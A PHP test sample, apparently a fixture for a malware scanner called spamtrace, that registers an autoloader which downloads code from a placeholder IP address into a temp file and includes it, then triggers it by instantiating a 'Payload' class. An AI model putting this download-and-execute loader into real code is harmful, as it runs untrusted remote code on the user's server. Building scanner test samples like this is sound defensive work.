<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
spl_autoload_register(function ($c) {
    $f = sys_get_temp_dir() . '/' . md5($c);
    file_put_contents($f, file_get_contents('http://203.0.113.9/c/' . $c));
    include $f;
});
new Payload();
